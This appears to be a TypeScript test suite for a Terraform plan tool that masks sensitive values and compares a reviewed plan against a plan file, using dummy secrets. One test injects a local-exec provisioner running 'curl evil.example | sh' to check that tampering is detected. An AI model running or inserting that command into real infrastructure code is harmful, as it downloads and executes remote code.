/**
 * DESIGN R54, R55 as pure functions: the whole `terraform show -json` document masked (every
 * value Terraform marks sensitive, the variables and outputs declared sensitive, and every
 * copy of such a value elsewhere), deterministic and idempotent; a changed sensitive value
 * named in the summary; and the comparison of a reviewed plan with a plan file's rendering.
 * Real plans are made with the real `terraform` (skipped where it is not on PATH).
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { reviewedPlanDifferences } from '../src/terraform/reviewed-plan.js';
import {
  maskTerraformPlanJson,
  parseTerraformPlan,
  SENSITIVE,
} from '../src/terraform/terraform-plan.js';
import { withTerraform } from './support/commands.js';

const FIXTURES = join(process.cwd(), 'test/fixtures/terraform');
const fixture = (name: string) => readFileSync(join(FIXTURES, `${name}.json`), 'utf8');

type Json = Record<string, any>;

function changeOf(content: string, address: string) {
  const change = parseTerraformPlan(content).summary.resourceChanges.find(
    (c) => c.address === address,
  );
  if (!change) throw new Error(`${address} is not a change of the plan`);
  return change;
}

/** `content` with `edit` applied to its parsed document. */
function edited(content: string, edit: (document: Json) => void): string {
  const document = JSON.parse(content) as Json;
  edit(document);
  return JSON.stringify(document);
}

withTerraform('plans made with terraform', () => {
  const dir = mkdtempSync(join(tmpdir(), 'planfence-mask-'));
  /** The values the configuration holds sensitive, in clear text in the raw renderings. */
  const SECRETS = [
    'SECRET-one-7f3a',
    'SECRET-two-9c1b',
    'wrap-1-q8z',
    'wrap-2-q8z',
    'MODSECRET-passed-5d2e',
    'MODSECRET-default-8a1c',
  ];
  const rendered: Record<string, string> = {};

  function tf(...args: string[]): string {
    const run = spawnSync('terraform', [`-chdir=${dir}`, ...args], {
      encoding: 'utf8',
      env: { ...process.env, TF_IN_AUTOMATION: '1', TF_CLI_CONFIG_FILE: '/dev/null' },
      maxBuffer: 64 * 1024 * 1024,
    });
    if (run.status !== 0) throw new Error(`terraform ${args.join(' ')}: ${run.stderr}`);
    return run.stdout;
  }
  const vars = (values: Record<string, string>) =>
    Object.entries(values).map(([name, value]) => `-var=${name}=${value}`);
  /** Plans into `file` and renders it as `terraform show -json` does. */
  function plan(file: string, values: Record<string, string>, ...extra: string[]): string {
    tf('plan', '-input=false', '-no-color', ...vars(values), `-out=${file}`, ...extra);
    return tf('show', '-json', file);
  }

  beforeAll(() => {
    mkdirSync(join(dir, 'mod'));
    writeFileSync(
      join(dir, 'mod', 'main.tf'),
      `variable "token" {
  type      = string
  sensitive = true
  default   = "MODSECRET-default-8a1c"
}
resource "terraform_data" "inner" { input = "inner-\${var.token}" }
`,
    );
    writeFileSync(
      join(dir, 'main.tf'),
      `variable "secret" {
  type      = string
  sensitive = true
}
variable "rev" { type = string }
variable "label" {
  type    = string
  default = "a"
}
variable "extra" {
  type    = bool
  default = false
}
resource "terraform_data" "app" { input = "app-\${var.rev}" }
resource "terraform_data" "creds" { input = var.secret }
resource "terraform_data" "wrapped" {
  input = { token = sensitive("wrap-\${var.rev}-q8z"), user = "admin" }
}
resource "terraform_data" "extra" {
  count = var.extra ? 1 : 0
  input = "extra"
}
module "m" {
  source = "./mod"
  token  = "MODSECRET-passed-5d2e"
}
output "conn" {
  value     = "user:\${var.secret}@db"
  sensitive = true
}
output "label" { value = var.label }
`,
    );
    tf('init', '-input=false', '-no-color');
    rendered.first = plan('first.tfplan', { secret: SECRETS[0], rev: '1' });
    tf('apply', '-input=false', '-no-color', 'first.tfplan');
    // The sensitive value changes (and with rev, the value wrapped in sensitive()).
    const second = { secret: SECRETS[1], rev: '2' };
    rendered.second = plan('second.tfplan', second);
    rendered.secondAgain = tf('show', '-json', 'second.tfplan');
    rendered.destroy = plan('destroy.tfplan', second, '-destroy');
    rendered.otherRev = plan('rev.tfplan', { ...second, rev: '3' });
    rendered.added = plan('added.tfplan', { ...second, extra: 'true' });
    rendered.label = plan('label.tfplan', { ...second, label: 'b' });
  }, 120_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  test('the raw renderings hold the sensitive values in clear text (what there is to mask)', () => {
    const raw = Object.values(rendered).join('\n');
    for (const secret of SECRETS) expect(raw).toContain(secret);
  });

  // proves: R54
  test('R54: no sensitive value is left anywhere in the masked document or in the summary', () => {
    for (const [name, content] of Object.entries(rendered)) {
      const parsed = parseTerraformPlan(content);
      const summary = JSON.stringify(parsed.summary);
      for (const secret of SECRETS) {
        expect([name, parsed.masked.includes(secret)]).toEqual([name, false]);
        expect([name, JSON.stringify(parsed.document).includes(secret)]).toEqual([name, false]);
        expect([name, summary.includes(secret)]).toEqual([name, false]);
      }
      expect(parsed.masked).toContain(SENSITIVE);
    }
  });

  // proves: R54
  test('R54: the masked document keeps what is not sensitive, the marks and the identifiers', () => {
    const raw = JSON.parse(rendered.second) as Json;
    const masked = JSON.parse(parseTerraformPlan(rendered.second).masked) as Json;
    expect(masked.format_version).toBe(raw.format_version);
    expect(masked.terraform_version).toBe(raw.terraform_version);
    expect(masked.variables).toEqual({
      ...raw.variables,
      secret: { value: SENSITIVE },
    });
    expect(masked.resource_changes.map((c: Json) => c.address)).toEqual(
      raw.resource_changes.map((c: Json) => c.address),
    );
    for (const [i, change] of (masked.resource_changes as Json[]).entries()) {
      const original = raw.resource_changes[i] as Json;
      expect(change.change.actions).toEqual(original.change.actions);
      expect(change.change.before_sensitive).toEqual(original.change.before_sensitive);
      expect(change.change.after_sensitive).toEqual(original.change.after_sensitive);
      expect(change.change.after_unknown).toEqual(original.change.after_unknown);
    }
    const byAddress = (document: Json, address: string) =>
      (document.resource_changes as Json[]).find((c) => c.address === address)!.change;
    expect(byAddress(masked, 'terraform_data.app')).toEqual(byAddress(raw, 'terraform_data.app'));
    // (a) the variable declared sensitive, and terraform_data's unmarked echo of it.
    expect(byAddress(masked, 'terraform_data.creds').before).toMatchObject({
      input: SENSITIVE,
      output: SENSITIVE,
    });
    expect(byAddress(masked, 'terraform_data.creds').after.input).toBe(SENSITIVE);
    // (b) a member wrapped in sensitive(); the member beside it stays.
    expect(byAddress(masked, 'terraform_data.wrapped').after.input).toEqual({
      token: SENSITIVE,
      user: 'admin',
    });
    // (c) the output declared sensitive, wherever it appears; the other one stays.
    expect(masked.output_changes.conn).toMatchObject({ before: SENSITIVE, after: SENSITIVE });
    expect(masked.output_changes.label).toEqual(raw.output_changes.label);
    expect(masked.prior_state.values.outputs.conn.value).toBe(SENSITIVE);
    expect(masked.planned_values.outputs.conn.value).toBe(SENSITIVE);
    // The child module's sensitive variable: the value passed and its default.
    const call = masked.configuration.root_module.module_calls.m as Json;
    expect(call.expressions.token.constant_value).toBe(SENSITIVE);
    expect(call.module.variables.token.default).toBe(SENSITIVE);
  });

  // proves: R54
  test('R54: masking is deterministic and idempotent, the masked document parses to itself', () => {
    for (const content of Object.values(rendered)) {
      const { masked, summary } = parseTerraformPlan(content);
      expect(maskTerraformPlanJson(content)).toBe(masked);
      const again = parseTerraformPlan(masked);
      expect(again.masked).toBe(masked);
      expect(maskTerraformPlanJson(masked)).toBe(masked);
      // The summary of the masked document reads the same, but for what only the raw values show.
      const readable = (changes: typeof summary.resourceChanges) =>
        changes.map(({ address, type, actions, before, after }) => ({
          address,
          type,
          actions,
          before,
          after,
        }));
      expect(readable(again.summary.resourceChanges)).toEqual(readable(summary.resourceChanges));
    }
    expect(parseTerraformPlan(rendered.second).masked).toBe(
      parseTerraformPlan(rendered.secondAgain).masked,
    );
  });

  // proves: R54
  test('R54: a changed sensitive value is named in the summary, though both sides read "(sensitive)"', () => {
    const creds = changeOf(rendered.second, 'terraform_data.creds');
    expect(creds.actions).toEqual(['update']);
    expect(JSON.parse(creds.before!).input).toBe(SENSITIVE);
    expect(JSON.parse(creds.after!).input).toBe(SENSITIVE);
    expect(creds.sensitiveChanges).toEqual(['input']);
    const wrapped = changeOf(rendered.second, 'terraform_data.wrapped');
    expect(wrapped.sensitiveChanges).toEqual(['input']);
    // A value that changes where it can be read is a row of its own already.
    expect(changeOf(rendered.second, 'terraform_data.app').sensitiveChanges).toEqual([]);
    // Created: every attribute is a row; nothing to name.
    expect(changeOf(rendered.first, 'terraform_data.creds').sensitiveChanges).toEqual([]);
    // Only the raw values tell: a masked document names none.
    const masked = parseTerraformPlan(rendered.second).masked;
    expect(changeOf(masked, 'terraform_data.creds').sensitiveChanges).toEqual([]);
  });

  // proves: R55
  test('R55: two renderings of one plan file agree, raw or masked', () => {
    const reviewed = maskTerraformPlanJson(rendered.second);
    expect(reviewedPlanDifferences(reviewed, rendered.secondAgain)).toEqual([]);
    expect(reviewedPlanDifferences(reviewed, maskTerraformPlanJson(rendered.secondAgain))).toEqual(
      [],
    );
    expect(reviewedPlanDifferences(rendered.second, rendered.secondAgain)).toEqual([]);
  });

  // proves: R55
  test('R55: the destroy plan of the same configuration is not the reviewed plan', () => {
    const lines = reviewedPlanDifferences(maskTerraformPlanJson(rendered.second), rendered.destroy);
    expect(lines).toContain(
      'terraform_data.app: actions ["update"] reviewed, ["delete"] in the plan file',
    );
    expect(lines).toContain(
      'output label: actions ["no-op"] reviewed, ["delete"] in the plan file',
    );
    expect(lines).toContain('output conn: after "(sensitive)" reviewed, null in the plan file');
    // Every resource and output is named, the variables agree.
    expect(lines.filter((line) => line.includes(' actions '))).toHaveLength(6);
    expect(lines.some((line) => line.startsWith('variable '))).toBe(false);
    for (const secret of SECRETS) expect(lines.join('\n')).not.toContain(secret);
  });

  // proves: R55
  test('R55: changed variable values, an added resource and changed outputs are each named', () => {
    const reviewed = maskTerraformPlanJson(rendered.second);
    const rev = reviewedPlanDifferences(reviewed, rendered.otherRev);
    expect(rev).toContain('variable rev: "2" reviewed, "3" in the plan file');
    expect(rev).toContain(
      'terraform_data.app: after.input "app-2" reviewed, "app-3" in the plan file',
    );

    expect(reviewedPlanDifferences(reviewed, rendered.added)).toEqual([
      'resource terraform_data.extra[0] is in the plan file but not in the reviewed plan',
      // -var gives the value as text: Terraform writes it so.
      'variable extra: false reviewed, "true" in the plan file',
    ]);

    expect(reviewedPlanDifferences(reviewed, rendered.label)).toEqual([
      'output label: actions ["no-op"] reviewed, ["update"] in the plan file',
      'output label: after "a" reviewed, "b" in the plan file',
      'variable label: "a" reviewed, "b" in the plan file',
    ]);
    // The other way round, the plan file lacks what was reviewed.
    expect(reviewedPlanDifferences(maskTerraformPlanJson(rendered.added), rendered.second)).toEqual(
      [
        'resource terraform_data.extra[0] is in the reviewed plan but not in the plan file',
        'variable extra: "true" reviewed, false in the plan file',
      ],
    );
    for (const content of [rendered.otherRev, rendered.added, rendered.label, rendered.first]) {
      const text = reviewedPlanDifferences(reviewed, content).join('\n');
      for (const secret of SECRETS) expect(text).not.toContain(secret);
    }
  });
});

describe('the fixtures', () => {
  const SENSITIVE_VALUES = [
    'hunter2',
    's3cret',
    'old-db-password-1',
    'new-db-password-2',
    'replica-token-1',
    'replica-token-2',
    'replica-token-3',
    'api-key-value-9',
  ];

  // proves: R54
  test('R54: sensitive.json masked holds none of its sensitive values, wherever they were', () => {
    const content = fixture('sensitive');
    const { masked, document } = parseTerraformPlan(content);
    for (const secret of SENSITIVE_VALUES) {
      expect(content).toContain(secret);
      expect(masked).not.toContain(secret);
    }
    expect(JSON.parse(masked)).toEqual(JSON.parse(JSON.stringify(document)));
    const parsed = JSON.parse(masked) as Json;
    // prior_state per sensitive_values, and the unmarked echo of the sensitive default.
    const secret = (parsed.prior_state.values.root_module.resources as Json[]).find(
      (r) => r.address === 'terraform_data.secret',
    )!;
    expect(secret.values.input.password).toBe(SENSITIVE);
    expect(secret.values.output.password).toBe(SENSITIVE);
    expect(parsed.configuration.root_module.variables.password).toEqual({
      default: SENSITIVE,
      sensitive: true,
    });
    expect(parsed.variables.rev).toEqual({ value: '2' });
    expect(maskTerraformPlanJson(masked)).toBe(masked);
  });

  test('every other fixture masks idempotently and keeps its summary', () => {
    for (const name of ['create', 'delete', 'mixed', 'noop', 'read', 'replace', 'update']) {
      const content = fixture(name);
      const parsed = parseTerraformPlan(content);
      expect(parseTerraformPlan(parsed.masked).masked).toBe(parsed.masked);
      for (const secret of ['hunter2', 's3cret']) expect(parsed.masked).not.toContain(secret);
      expect(parseTerraformPlan(parsed.masked).summary.add).toBe(parsed.summary.add);
    }
  });

  // proves: R54
  test('R54: the attributes whose sensitive value changes are named, sorted', () => {
    const content = fixture('sensitive');
    // The password and a replica's token change; both sides read "(sensitive)".
    expect(changeOf(content, 'module.db.aws_db_instance.main').sensitiveChanges).toEqual([
      'password',
      'replicas',
    ]);
    // The input's password changes, but so does its rev: the masked values differ already.
    expect(changeOf(content, 'terraform_data.secret').sensitiveChanges).toEqual([]);
    expect(changeOf(content, 'aws_ssm_parameter.api_key').sensitiveChanges).toEqual([]);
    // Unchanged sensitive values are not named.
    const same = edited(content, (document) => {
      const db = (document.resource_changes as Json[])[1].change;
      db.after.password = db.before.password;
      db.after.replicas = db.before.replicas;
    });
    expect(changeOf(same, 'module.db.aws_db_instance.main').sensitiveChanges).toEqual([]);
  });

  // proves: R54
  test('R54: a sensitive value copied unmarked, whole, inside a longer string or as a number, is masked everywhere', () => {
    const content = JSON.stringify({
      format_version: '1.2',
      terraform_version: '1.11.4',
      variables: { token: { value: 'tok-51b7e2' }, pin: { value: 4711 } },
      configuration: {
        root_module: {
          variables: { token: { sensitive: true }, pin: { sensitive: true } },
          resources: [
            {
              address: 'terraform_data.echo',
              expressions: { input: { constant_value: 'Bearer tok-51b7e2' } },
            },
          ],
        },
      },
      resource_changes: [
        {
          address: 'terraform_data.echo',
          type: 'terraform_data',
          name: 'echo',
          mode: 'managed',
          change: {
            actions: ['create'],
            before: null,
            after: {
              input: 'Bearer tok-51b7e2',
              output: { header: 'Bearer tok-51b7e2', pin: 4711, tries: 3 },
              other: 'plain',
            },
            before_sensitive: false,
            after_sensitive: {},
          },
        },
      ],
      checks: [
        {
          address: { kind: 'resource', to_display: 'terraform_data.echo' },
          status: 'fail',
          instances: [{ status: 'fail', problems: [{ message: 'token tok-51b7e2 refused' }] }],
        },
      ],
    });
    const { masked, summary } = parseTerraformPlan(content);
    expect(masked).not.toContain('tok-51b7e2');
    expect(masked).not.toContain('4711');
    const document = JSON.parse(masked) as Json;
    expect(document.resource_changes[0].change.after).toEqual({
      input: SENSITIVE,
      output: { header: SENSITIVE, pin: SENSITIVE, tries: 3 },
      other: 'plain',
    });
    expect(document.checks[0].status).toBe('fail');
    expect(document.checks[0].instances[0].problems[0].message).toBe(SENSITIVE);
    expect(JSON.stringify(summary)).not.toContain('tok-51b7e2');
  });

  // proves: R54
  test('R54: a value marked sensitive on one side of a change only is masked on both sides', () => {
    const content = JSON.stringify({
      format_version: '1.2',
      resource_changes: [
        {
          address: 'terraform_data.db',
          type: 'terraform_data',
          change: {
            actions: ['update'],
            before: { password: 'was-clear-81f2', rev: 1 },
            after: { password: 'now-marked-c4d0', rev: 2 },
            before_sensitive: {},
            after_sensitive: { password: true },
          },
        },
      ],
    });
    const { masked, summary } = parseTerraformPlan(content);
    for (const secret of ['was-clear-81f2', 'now-marked-c4d0']) {
      expect(masked).not.toContain(secret);
      expect(JSON.stringify(summary)).not.toContain(secret);
    }
    expect(summary.resourceChanges[0].sensitiveChanges).toEqual(['password']);
  });

  test('R54: a short sensitive value masks values containing it, never the identifiers', () => {
    const content = edited(fixture('update'), (document) => {
      document.configuration.root_module.variables.rev.sensitive = true;
    });
    // rev is "2": every value holding a "2" reads "(sensitive)"; addresses, versions, actions stay.
    const parsed = parseTerraformPlan(content);
    const document = JSON.parse(parsed.masked) as Json;
    expect(document.format_version).toBe('1.2');
    expect(document.variables.rev).toEqual({ value: SENSITIVE });
    expect(document.resource_changes.map((c: Json) => [c.address, c.change.actions])).toEqual(
      (JSON.parse(content) as Json).resource_changes.map((c: Json) => [
        c.address,
        c.change.actions,
      ]),
    );
    expect(parsed.summary.resourceChanges[0].after).toBe(
      JSON.stringify({ id: SENSITIVE, input: SENSITIVE, triggers_replace: null }),
    );
    expect(parseTerraformPlan(parsed.masked).masked).toBe(parsed.masked);
  });

  test('parse errors are those of parseTerraformPlan, masking adds none', () => {
    expect(() => maskTerraformPlanJson('[]')).toThrow(/must be a JSON object/);
    expect(() => maskTerraformPlanJson('{"format_version": "2.0"}')).toThrow(/format_version 2\.0/);
    expect(maskTerraformPlanJson('{"format_version":"1.2"}')).toBe('{"format_version":"1.2"}');
  });

  // proves: R55
  test('R55: fixtures compare equal to themselves, raw or masked, in any order of resources', () => {
    const content = fixture('mixed');
    expect(reviewedPlanDifferences(maskTerraformPlanJson(content), content)).toEqual([]);
    const reordered = edited(content, (document) => {
      document.resource_changes.reverse();
      document.timestamp = '2030-01-01T00:00:00Z';
      document.terraform_version = '1.12.0';
    });
    expect(reviewedPlanDifferences(maskTerraformPlanJson(content), reordered)).toEqual([]);
  });

  // proves: R55
  test('R55: a plan file whose configuration differs (a provisioner, a provider block) is not the reviewed plan, though its changes are the same', () => {
    const content = fixture('mixed');
    const reviewed = maskTerraformPlanJson(content);
    const withCommand = edited(content, (document) => {
      document.configuration.root_module.resources[0].provisioners = [
        {
          type: 'local-exec',
          expressions: { command: { constant_value: 'curl evil.example | sh' } },
        },
      ];
    });
    expect(reviewedPlanDifferences(reviewed, withCommand)).toEqual([
      'configuration: .root_module.resources[0].provisioners none reviewed, [{"expressions":{"command":{"constant_value":"curl evil.exam… in the plan file',
    ]);
    const elsewhere = edited(content, (document) => {
      document.configuration.provider_config.terraform.expressions = {
        region: { constant_value: 'another-account' },
      };
    });
    expect(reviewedPlanDifferences(reviewed, elsewhere)).toEqual([
      'configuration: .provider_config.terraform.expressions none reviewed, {"region":{"constant_value":"another-account"}} in the plan file',
    ]);
    // And the other way: the reviewed plan had what the plan file has not.
    expect(reviewedPlanDifferences(maskTerraformPlanJson(withCommand), content)).toHaveLength(1);
  });

  // proves: R55
  test('R55: what a line names never holds a sensitive value', () => {
    const content = fixture('sensitive');
    const other = edited(content, (document) => {
      const db = (document.resource_changes as Json[])[1];
      db.change.after.password = 'another-db-password-3';
      db.change.after.instance_class = 'db.t3.large';
      db.change.actions = ['delete', 'create'];
      db.action_reason = 'replace_because_cannot_update';
      document.variables.password = { value: 'another-hunter' };
    });
    const lines = reviewedPlanDifferences(content, other);
    expect(lines).toEqual([
      'module.db.aws_db_instance.main: actions ["update"] reviewed, ["delete","create"] in the plan file',
      'module.db.aws_db_instance.main: action_reason none reviewed, "replace_because_cannot_update" in the plan file',
      'module.db.aws_db_instance.main: after.instance_class "db.t3.small" reviewed, "db.t3.large" in the plan file',
    ]);
    for (const secret of [...SENSITIVE_VALUES, 'another-db-password-3', 'another-hunter']) {
      expect(lines.join('\n')).not.toContain(secret);
    }
  });

  // proves: R55
  test('R55: at most 20 lines, then how many more', () => {
    const reviewed = JSON.stringify({ format_version: '1.2', resource_changes: [] });
    const many = JSON.stringify({
      format_version: '1.2',
      resource_changes: Array.from({ length: 30 }, (_, i) => ({
        address: `terraform_data.r${i}`,
        type: 'terraform_data',
        change: { actions: ['create'], before: null, after: { input: i } },
      })),
    });
    const lines = reviewedPlanDifferences(reviewed, many);
    expect(lines).toHaveLength(21);
    expect(lines[0]).toBe(
      'resource terraform_data.r0 is in the plan file but not in the reviewed plan',
    );
    expect(lines[20]).toBe('… and 10 more');
  });

  // proves: R55
  test('R55: a document that is not a plan is one line, which never quotes it', () => {
    const plan = fixture('update');
    expect(reviewedPlanDifferences('{"not json', plan)).toEqual([
      'the reviewed plan is not a Terraform plan (terraform show -json PLANFILE)',
    ]);
    const lines = reviewedPlanDifferences(plan, 'Error: {"password": "hunter2"');
    expect(lines).toEqual([
      'the plan file does not render as a Terraform plan (terraform show -json PLANFILE)',
    ]);
  });
});
